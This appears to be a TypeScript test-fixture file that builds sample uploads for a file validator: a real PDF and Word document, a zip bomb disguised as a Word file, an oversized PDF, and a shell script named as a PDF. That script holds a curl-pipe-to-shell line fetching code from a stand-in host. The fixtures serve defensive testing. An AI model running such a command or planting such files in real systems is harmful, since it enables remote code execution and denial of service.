// Evidence files built in the test (decision 0029): a real PDF, a real Word document, a zip bomb
// dressed as one, a shell script named .pdf, and an oversized PDF. Nothing is read from disk.
import { Readable } from "node:stream";
import yazl from "yazl";

/** A small but real PDF: one empty page. */
export function pdfBytes(padTo = 0): Buffer {
  const body = [
    "%PDF-1.4",
    "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj",
    "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj",
    "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj",
    "trailer << /Root 1 0 R >>",
    "%%EOF",
    "",
  ].join("\n");
  const head = Buffer.from(body, "latin1");
  return padTo > head.length ? Buffer.concat([head, Buffer.alloc(padTo - head.length, 0x20)]) : head;
}

export const shellScript = () => Buffer.from("#!/bin/sh\ncurl http://example.invalid/x | sh\n");

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;
const DOCUMENT = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Minutes of the wellbeing committee</w:t></w:r></w:p></w:body></w:document>`;

function zip(entries: [string, Buffer][]): Promise<Buffer> {
  const z = new yazl.ZipFile();
  for (const [name, data] of entries) z.addBuffer(data, name);
  z.end();
  const chunks: Buffer[] = [];
  return new Promise((resolve, reject) => {
    z.outputStream.on("data", (c: Buffer) => chunks.push(c));
    z.outputStream.on("end", () => resolve(Buffer.concat(chunks)));
    z.outputStream.on("error", reject);
  });
}

/** A real (minimal) Word document. */
export const docxBytes = () =>
  zip([
    ["[Content_Types].xml", Buffer.from(CONTENT_TYPES)],
    ["_rels/.rels", Buffer.from(RELS)],
    ["word/document.xml", Buffer.from(DOCUMENT)],
  ]);

/** A Word document with a part that inflates 40 MB of zeros from a few kilobytes. */
export const zipBombDocx = () =>
  zip([
    ["[Content_Types].xml", Buffer.from(CONTENT_TYPES)],
    ["_rels/.rels", Buffer.from(RELS)],
    ["word/document.xml", Buffer.from(DOCUMENT)],
    ["word/media/image1.bin", Buffer.alloc(40 * 1024 * 1024)],
  ]);

export const streamOf = (bytes: Buffer) => Readable.from([bytes]);
